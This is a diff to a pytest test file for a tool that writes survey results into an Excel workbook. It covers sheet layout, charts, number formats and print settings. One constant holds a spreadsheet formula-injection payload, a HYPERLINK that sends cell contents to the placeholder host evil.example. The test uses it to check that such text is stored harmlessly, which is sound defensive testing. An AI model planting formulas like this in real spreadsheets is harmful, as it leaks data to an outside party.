@@ -5,8 +5,6 @@ The tables are small synthetic ones built here; the numbers mean nothing, only t
 
 from __future__ import annotations
 
-import shutil
-import subprocess
 import zipfile
 from pathlib import Path
 
@@ -18,8 +16,11 @@ import pytest
 from surveyindex.errors import ReportError
 from surveyindex.report import ReportTables, lead_sentences, write_workbook
 
-SHEETS = ["Summary", "Index", "Dimensions", "Profile", "USA vs CHN", "Leads", "Items", "Reliability",
-          "Flags", "Weighting", "Bases", "Exclusions", "Methodology"]
+VISIBLE = ["Summary", "Charts", "Index", "Favourability", "Dimensions", "Profile", "USA vs CHN",
+           "Differences", "Leads", "Items", "Reliability", "Flags", "Weighting", "Bases",
+           "Exclusions", "Methodology"]
+HIDDEN = ["Chart data", "Dimension estimates", "Item estimates", "Reliability estimates"]
+SHEETS = [*VISIBLE[:-1], *HIDDEN, "Methodology"]
 INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 DIMS = ["morality", "competence", "culture", "technology", "education"]
 
@@ -77,99 +78,176 @@ def make_tables(countries=("BRA", "DEU", "IND", "JPN", "NGA"), targets=("USA", "
                         methodology)
 
 
-@pytest.fixture
+@pytest.fixture(scope="module")
 def tables() -> ReportTables:
     return make_tables()
 
 
-@pytest.fixture
-def book(tables, tmp_path) -> openpyxl.Workbook:
-    return openpyxl.load_workbook(write_workbook(tables, tmp_path / "report.xlsx"))
+@pytest.fixture(scope="module")
+def book_path(tables, tmp_path_factory) -> Path:
+    return write_workbook(tables, tmp_path_factory.mktemp("book") / "report.xlsx")
+
+
+@pytest.fixture(scope="module")
+def book(book_path) -> openpyxl.Workbook:
+    return openpyxl.load_workbook(book_path)
+
+
+def rows_of(ws, header_row: int = 2) -> tuple[list, list[dict]]:
+    """The header and the rows (header -> value) of a table sheet."""
+    header = [c.value for c in ws[header_row]]
+    rows = [dict(zip(header, r)) for r in ws.iter_rows(min_row=header_row + 1, values_only=True)]
+    return header, rows
+
+
+def column_of(ws, name: str, header_row: int = 2) -> int:
+    return [c.value for c in ws[header_row]].index(name) + 1
 
 
 def test_sheets_in_order(book):
     assert book.sheetnames == SHEETS
+    assert [ws.title for ws in book.worksheets if ws.sheet_state == "visible"] == VISIBLE
+    assert all(book[n].sheet_state == "hidden" for n in HIDDEN)
 
 
 def test_comparison_sheet_named_from_the_data(tmp_path):
     book = openpyxl.load_workbook(write_workbook(make_tables(targets=("RUS", "IND")),
                                                  tmp_path / "r.xlsx"))
-    assert book.sheetnames[4] == "RUS vs IND"
-    assert book["RUS vs IND"]["H1"].value == "RUS \u2212 IND"
+    assert book.sheetnames[6] == "RUS vs IND"
+    # Targets are shown by name (ISO 3166 names for country codes).
+    assert "Russian Federation \u2212 India" in rows_of(book["RUS vs IND"])[0]
 
 
 def test_headers_frozen_and_filtered(book):
     ws = book["Index"]
-    header = [c.value for c in ws[1][:12]]
-    assert header == ["Country", "Target", "Audience", "Score", "SE", "CI low", "CI high", "n",
-                      "Rank", "Rank low", "Rank high", "Base"]
-    assert ws["A1"].font.b
-    for name in SHEETS[1:]:
-        assert book[name].freeze_panes == "A2", name
+    header = [c.value for c in ws[2]]
+    # No base note column: no cell has a small base in these tables.
+    assert header == ["Country", "ISO", "Target", "Audience", "Score", "SE", "CI low", "CI high",
+                      "n", "Rank", "Rank from", "Rank to"]
+    assert len(set(header)) == len(header)
+    assert ws["A2"].font.b and ws["A1"].font.i  # caption above the header
+    assert ws["A3"].value == "Brazil" and ws["B3"].value == "BRA" and ws["C3"].value == \
+        "United States" and ws["D3"].value == "All adults"
+    for name in ["Index", "Favourability", "USA vs CHN", "Leads", "Bases", "Weighting"]:
+        assert book[name].freeze_panes == "A3", name
     # 5 countries x 2 targets x 2 audiences = 20 rows under the header
-    assert ws.auto_filter.ref == "A1:L21"
+    assert ws.auto_filter.ref == "A2:L22"
     assert "Extra column" not in header and "extra_column" not in header
 
 
+def test_every_visible_sheet_has_a_caption_and_unique_headers(book):
+    for ws in book.worksheets:
+        if ws.sheet_state != "visible" or ws.title in ("Summary", "Charts"):
+            continue
+        assert isinstance(ws["A1"].value, str) and len(ws["A1"].value) > 30, ws.title
+        header = [c.value for c in ws[2] if c.value is not None]
+        if ws.title not in ("Items", "Differences", "Dimensions", "Reliability"):
+            assert len(set(header)) == len(header), (ws.title, header)
+
+
+def test_print_setup(book):
+    for ws in book.worksheets:
+        if ws.sheet_state != "visible":
+            assert not ws.print_area, ws.title  # LibreOffice would print it
+            continue
+        assert ws.print_area, ws.title
+        assert ws.oddFooter.center.text == "&A - page &P of &N", ws.title
+        if ws.title not in ("Summary", "Charts"):
+            assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
+            assert ws.print_title_rows in ("$1:$2", "$1:$3", "$1:$1"), ws.title
+
+
 def test_number_formats(book):
-    assert book["Index"]["D2"].number_format == "0.0"
-    assert book["Index"]["E2"].number_format == "0.00"
-    assert book["Index"]["H2"].number_format == "#,##0"
-    assert book["USA vs CHN"]["L2"].number_format.endswith("0.000")
-    assert book["Weighting"]["B2"].number_format == "#,##0"
+    assert book["Index"]["E3"].number_format == "0.0"
+    assert book["Index"]["F3"].number_format == "0.00"
+    assert book["Index"]["I3"].number_format == "#,##0"
+    ws = book["USA vs CHN"]
+    assert ws.cell(3, column_of(ws, "p")).number_format.endswith("0.000")
+    assert book["Weighting"]["C3"].number_format == "#,##0"
 
 
 def test_colour_scale_on_scores(book):
     ranges = [str(r.sqref) for r in book["Index"].conditional_formatting]
-    assert ranges == ["D2:D21"]
-    assert [str(r.sqref) for r in book["Dimensions"].conditional_formatting] == ["G2:G101"]
+    assert ranges == ["E3:E22"]
+    # Dimensions, wide: each dimension's score column (after Country, ISO, Target, Audience, n).
+    assert [str(r.sqref) for r in book["Dimensions"].conditional_formatting] == \
+        [f"{c}4:{c}23" for c in "FILOR"]
+    rule = book["Index"].conditional_formatting._cf_rules
+    colours = [c.rgb for r in rule.values() for x in r for c in x.colorScale.color]
+    assert "00F8696B" not in colours and "0063BE7B" not in colours  # no red-green
 
 
 def test_significant_differences_marked(book, tables):
     ws = book["USA vs CHN"]
-    for r, sig in enumerate(tables.comparison["significant"], start=2):
-        assert ws.cell(r, 14).value == ("*" if sig else None)
-        assert ws.cell(r, 8).font.b == bool(sig)
+    mark, holm = column_of(ws, "CI excludes 0"), column_of(ws, "Holm significant")
+    low, high = column_of(ws, "CI low"), column_of(ws, "CI high")
+    diff = column_of(ws, "United States \u2212 China")
+    for r, (sig, p) in enumerate(zip(tables.comparison["significant"],
+                                     tables.comparison["p_value"]), start=3):
+        assert ws.cell(r, holm).value == ("*" if sig else None)
+        assert ws.cell(r, diff).font.b == bool(sig)
+        # The unadjusted mark agrees with the unadjusted interval shown beside it.
+        excludes = ws.cell(r, low).value > 0 or ws.cell(r, high).value < 0
+        assert (ws.cell(r, mark).value == "*") == (p < 0.05) == excludes
+    assert "Bonferroni" in ws["A1"].value and "unadjusted" in ws["A1"].value
 
 
-def test_flagged_reliability_rows_highlighted(book, tables):
+def test_flagged_reliability_cells_highlighted(book, tables):
     ws = book["Reliability"]
-    for r, flag in enumerate(tables.reliability["flag"], start=2):
-        assert (ws.cell(r, 1).fill.fgColor.rgb == "00FFE699") == bool(flag)
+    shown = {(ws.cell(r, 2).value, ws.cell(r, 3).value): r for r in range(4, ws.max_row + 1)}
+    dims = [ws.cell(2, j).value for j in range(4, ws.max_column + 1, 3)]
+    for row in tables.reliability.itertuples():
+        r = shown[(row.country, "United States" if row.target == "USA" else "China")]
+        j = 4 + 3 * dims.index(row.dimension)
+        assert ws.cell(r, j).value == pytest.approx(row.alpha)
+        assert (ws.cell(r, j).fill.fgColor.rgb == "00FFE699") == bool(row.flag)
 
 
-def test_chart_with_error_bars(book):
-    charts = book["Summary"]._charts
-    assert len(charts) == 1 and charts[0].type == "bar"
+def test_charts_with_error_bars_and_hidden_data(book):
+    charts = book["Charts"]._charts
+    # Composite for each audience, the forest chart for each, the dimension profile.
+    assert [c.type for c in charts] == ["bar", "bar", "bar", "bar", "col"]
     series = charts[0].series
     assert len(series) == 2  # one per target
     assert series[0].errBars.errValType == "cust"
-    # The chart block on Index (columns N-T): countries, then per target the score and the CI's
-    # distance below and above it; the fixture's CI is score - 2.94 to score + 3.5.
-    ws = book["Index"]
-    assert [ws.cell(1, j).value for j in range(14, 18)] == ["Chart: country", "USA",
-                                                           "USA CI below", "USA CI above"]
-    assert ws["P2"].value == pytest.approx(2.94) and ws["Q2"].value == pytest.approx(3.5)
-    assert series[0].errBars.minus.numRef.f == "'Index'!$P$2:$P$6"
-    assert series[0].errBars.plus.numRef.f == "'Index'!$Q$2:$Q$6"
-    # Countries ordered by the first target's score, highest first.
-    usa = [ws.cell(r, 15).value for r in range(2, 7)]
-    assert usa == sorted(usa, reverse=True)
+    assert series[0].graphicalProperties.solidFill.srgbClr == "0072B2"  # Okabe-Ito blue
+    ws = book["Chart data"]
+    assert ws.sheet_state == "hidden"
+    # The first block: countries, then per target the score and the CI's distance below and
+    # above it; the fixture's CI is score - 2.94 to score + 3.5.
+    assert [ws.cell(2, j).value for j in range(1, 5)] == [
+        "Country", "United States", "United States: CI below", "United States: CI above"]
+    assert ws["C3"].value == pytest.approx(2.94) and ws["D3"].value == pytest.approx(3.5)
+    assert series[0].errBars.minus.numRef.f == "'Chart data'!$C$3:$C$7"
+    assert series[0].errBars.plus.numRef.f == "'Chart data'!$D$3:$D$7"
+    usa = [ws.cell(r, 2).value for r in range(3, 8)]
+    assert usa == sorted(usa, reverse=True)  # highest first
+    forest = charts[2]
+    # Its block starts at column Q (after the two composite blocks): Country, then the
+    # significant bars and their CI in R-T, the others in U-W.
+    assert [s.tx.strRef.f for s in forest.series] == ["'Chart data'!R2", "'Chart data'!U2"]
+    assert book["Chart data"]["R2"].value == "Significant"
+    assert forest.title.tx.rich.p[0].r[0].t.startswith("United States minus China")
 
 
-def test_summary_states_the_leads(book):
-    text = [c.value for c in book["Summary"]["A"] if isinstance(c.value, str)]
-    assert ("CHN rated higher than USA on education in 2 of 5 countries (95% interval 1-3); "
-            "significantly in 0.") in text
-    assert text[0] == "How the world sees the United States and China"
-    assert "Instrument" in text
+def test_summary_states_the_findings(book):
+    text = [c.value for c in book["Summary"]["B"] if isinstance(c.value, str)]
+    assert ("United States rated higher than China on the composite index in 3 of 5 countries "
+            "(95% interval 2-4); significantly (Holm) in 1.") in text
+    first = [c.value for c in book["Summary"]["A"] if isinstance(c.value, str)]
+    assert first[0] == "How the world sees the United States and China"
+    assert "Headline findings" in first and "All adults (5 countries)" in first
+    assert any(t.startswith("Largest differences, United States minus China") for t in text)
+    # File names only, no folders or hashes, and nothing cut short.
+    assert "raking to age x sex margins" in text
+    assert not any("..." in t or "sha256" in t for t in text)
 
 
 def test_lead_sentences_without_interval():
     leads = pd.DataFrame({"audience": ["all"], "measure": ["composite"], "target_a": ["USA"],
                           "target_b": ["CHN"], "n_countries": [13], "a_leads": [9]})
     assert lead_sentences(leads) == [
-        "USA rated higher than CHN on the composite index in 9 of 13 countries."]
+        "United States rated higher than China on the composite index in 9 of 13 countries."]
 
 
 def test_error_bar_xml_in_schema_order(tables, tmp_path):
@@ -179,13 +257,13 @@ def test_error_bar_xml_in_schema_order(tables, tmp_path):
     assert xml.index("<plus>") < xml.index("<minus>")
 
 
-def test_formula_text_neutralised(book, tmp_path):
+def test_formula_text_neutralised(book, book_path):
     ws = book["Exclusions"]
-    ids = {ws.cell(r, 6).value: ws.cell(r, 6) for r in range(2, 5)}
+    ids = {ws.cell(r, 6).value: ws.cell(r, 6) for r in range(3, 6)}
     assert set(ids) == {INJECTION, "@SUM(1+1)", "-2+3"}  # text unchanged, no visible prefix
     for cell in ids.values():
         assert cell.data_type == "s" and cell.quotePrefix
-    with zipfile.ZipFile(tmp_path / "report.xlsx") as z:
+    with zipfile.ZipFile(book_path) as z:
         assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets"))
 
 
@@ -227,9 +305,9 @@ def test_empty_tables(tmp_path):
     empty = ReportTables("Empty", *[pd.DataFrame()] * 9, methodology={})
     book = openpyxl.load_workbook(write_workbook(empty, tmp_path / "empty.xlsx"))
     assert book.sheetnames == SHEETS
-    assert book["Index"]["A1"].value == "Country" and book["Index"]["A2"].value == "no rows"
-    assert book["Exclusions"]["D2"].value == "no rows excluded"
-    assert not book["Summary"]._charts
+    assert book["Index"]["A2"].value == "Country" and book["Index"]["A3"].value == "no rows"
+    assert book["Exclusions"]["D3"].value == "no rows excluded"
+    assert not book["Charts"]._charts and not book["Summary"]._charts
 
 
 def test_missing_and_odd_values(tables, tmp_path):
@@ -240,22 +318,9 @@ def test_missing_and_odd_values(tables, tmp_path):
                      ["dimensions", "comparison", "leads", "items", "reliability", "weighting",
                       "ledger_summary", "exclusions"]], methodology=tables.methodology)
     ws = openpyxl.load_workbook(write_workbook(t, tmp_path / "odd.xlsx"))["Index"]
-    assert ws["D2"].value is None and ws["E3"].value is None
-    assert ws["A4"].value == "bad\ufffdname"
-    assert ws["A5"].value == "#N/A" and ws["A5"].data_type == "s"
-
-
-@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) not on PATH")
-def test_libreoffice_opens_it(tables, tmp_path):
-    path = write_workbook(tables, tmp_path / "report.xlsx")
-    profile = f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}"
-    subprocess.run(["soffice", profile, "--headless", "--convert-to", "csv:Text - txt - csv "
-                    '(StarCalc):44,34,76,1,,0,false,true,false,false,false,-1', "--outdir",
-                    str(tmp_path / "csv"), str(path)], check=True, capture_output=True,
-                   timeout=180)
-    exclusions = (tmp_path / "csv" / "report-Exclusions.csv").read_text(encoding="utf-8")
-    # LibreOffice shows the text, not the result of a formula it ran.
-    assert "HYPERLINK" in exclusions and "@SUM(1+1)" in exclusions
+    assert ws["E3"].value is None and ws["F4"].value is None
+    assert ws["B5"].value == "bad\ufffdname" and ws["A5"].value == "bad\ufffdname"
+    assert ws["B6"].value == "#N/A" and ws["B6"].data_type == "s"
 
 
 def test_interrupted_write_leaves_no_temp_file(tables, tmp_path, monkeypatch):
